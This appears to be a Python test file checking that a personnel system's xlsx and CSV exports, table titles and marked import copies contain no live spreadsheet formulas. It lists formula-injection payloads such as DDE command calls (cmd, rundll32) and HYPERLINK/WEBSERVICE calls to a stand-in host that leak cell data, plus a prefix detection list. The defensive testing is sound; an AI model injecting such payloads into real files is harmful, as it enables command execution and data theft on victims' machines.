"""S15: whatever is typed or imported, no cell of a file that leaves is a formula, and text comes back equal."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook

from backend.kernel import jobs
from backend.kernel.db import Database
from backend.kernel.embedded import EmbeddedServer
from backend.kernel.sheets import export
from backend.person import sample
from tests.campaigns import tiers
from tests.campaigns.conftest import Figures
from tests.factories.callers import Caller, Callers
from tests.factories.institutions import post
from tests.factories.people import register

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", '"=', " =", ";=", ",=")
ACTS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"点")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example")',
    "DDE(a;b;c)",
    "IMPORTXML(A1)",
    "{1,2}",
    "A1",
    "rundll32|'x'!A",
)
PAYLOADS = tuple(f"{sign}{act}"[:40] for sign in SIGNS for act in ACTS)[:: tiers.size(13, c=2, n=1)]
FIELDS = ("nation", "occupation", "workplace")
DANGEROUS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
PURPOSE = "核对台账"


def formulas(book: bytes) -> list[str]:
    """Cells of a workbook that a spreadsheet would compute."""
    found = []
    for page in load_workbook(io.BytesIO(book)).worksheets:
        found += [f"{cell.coordinate}: {cell.value}" for row in page for cell in row if cell.data_type == "f"]
    return found


def texts(book: bytes) -> set[str]:
    """All texts of a workbook."""
    pages = load_workbook(io.BytesIO(book)).worksheets
    return {cell.value for page in pages for row in page for cell in row if isinstance(cell.value, str)}


def run_in_csv(content: bytes) -> list[str]:
    """Cells of a text file that a spreadsheet would compute."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if cell.startswith(DANGEROUS) and not _number(cell)]


def _number(cell: str) -> bool:
    return cell.lstrip("-").isdigit()


def exported(caller: Caller, form: str) -> bytes:
    """The list of people as a file."""
    answer = caller.post("/persons/export", json={"format": form, "reason": PURPOSE})
    assert answer.status_code == 200, answer.text
    return answer.content


@pytest.fixture(scope="module")
def typed(callers: Callers) -> set[str]:
    """People with every payload in every free text that a list of people shows; what was stored of them."""
    stored: set[str] = set()
    for payload in PAYLOADS:
        values = dict.fromkeys(FIELDS, payload)
        person = register(callers.office(), remark=payload, address=payload, **_accepted(callers.office(), values))
        stored |= {person[field] for field in FIELDS if person[field]}
    return stored


def _accepted(office: Caller, values: dict[str, str]) -> dict[str, str]:
    """The fields that are not refused with this text."""
    answer = office.post("/persons", json={"name": "试", "id_number": "", "region": "", **values})
    refused = {each["pointer"].strip("/") for each in answer.json()["errors"]}
    return {field: text for field, text in values.items() if field not in refused}


def test_exports_of_people_run_nothing_and_lose_nothing(callers: Callers, typed: set[str], figure: Figures) -> None:
    book, plain = exported(callers.office(), "xlsx"), exported(callers.office(), "csv")
    assert formulas(book) == []
    assert run_in_csv(plain) == []
    assert typed
    assert typed <= texts(book), "a text came out changed"
    told = {cell for row in csv.reader(io.StringIO(plain.decode("utf-8-sig"))) for cell in row}
    assert {export.safe_csv(text) for text in typed} <= told
    figure("field × payload × format", 2 * len(FIELDS) * len(PAYLOADS), aim=tiers.size(60, c=300, n=700))


def tables(callers: Callers) -> Iterator[bytes]:
    """Allocation tables with a payload as title, as workbooks."""
    for nth, payload in enumerate(PAYLOADS[:: tiers.size(4, c=4, n=2)]):
        body = {"year": 2020 + nth, "basis": "villages", "title": payload}
        answer = callers.office().post("/allocations", json=body)
        if answer.status_code == 201:
            yield callers.office().get(f"/allocations/{answer.json()['id']}/workbook").content


def plan_for(callers: Callers, year: int) -> None:
    """An issued plan for a year."""
    body = {"name": f"{year}年", "since_year": year, "until_year": year, "total": 240}
    plan = post(callers.office(), "/plans", body | {"targets": [{"year": year, "persons": 240}]})
    for verb in ("submission", "issue"):
        plan = post(callers.office(), f"/plans/{plan['id']}/{verb}", {}, if_match=plan["version"])


def test_titles_of_tables_run_nothing(callers: Callers, figure: Figures) -> None:
    for nth in range(len(PAYLOADS[:: tiers.size(4, c=4, n=2)])):
        plan_for(callers, 2020 + nth)
    books = list(tables(callers))
    assert books
    assert [fault for book in books for fault in formulas(book)] == []
    figure("titles of tables", len(books))


def roster(payloads: list[str]) -> bytes:
    """A roster whose remarks and workplaces are payloads; the last row is faulty."""
    people, _ = sample.people(len(payloads), 15, 0)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(sample.TITLES)
    for row, payload in zip(people, payloads, strict=True):
        known: dict[str, Any] = dict(zip(sample.TITLES, row, strict=True)) | {"备注": payload}
        writer.writerow(["" if known[title] is None else known[title] for title in sample.TITLES])
    faulty = dict(zip(sample.TITLES, people[0], strict=True)) | {"身份证号": "1", "备注": payloads[0]}
    writer.writerow(["" if faulty[title] is None else faulty[title] for title in sample.TITLES])
    return out.getvalue().encode("utf-8-sig")


def test_the_marked_copy_of_an_import_runs_nothing(
    callers: Callers, server: EmbeddedServer, database: Database, database_name: str, figure: Figures
) -> None:
    office, payloads = callers.office(), list(PAYLOADS)
    answer = office.post(
        "/imports",
        params={"file_name": "名单.csv"},
        content=roster(payloads),
        headers={"Content-Type": "application/octet-stream"},
    )
    assert answer.status_code == 201, answer.text
    path = f"/imports/{answer.json()['id']}"
    url = server.url(database_name, user="skillplan_app")
    jobs.run_pending(url, database)
    assert office.post(f"{path}/annotation").is_success
    jobs.run_pending(url, database)
    book = office.get(f"{path}/annotation").content
    assert formulas(book) == []
    assert texts(book) & set(payloads), "the copy holds what was sent"
    figure("cells of a marked copy", len(payloads))


def test_control_text_that_is_not_guarded_is_caught(
    callers: Callers, typed: set[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "safe_csv", lambda value: "" if value is None else str(value))
    assert run_in_csv(exported(callers.office(), "csv"))
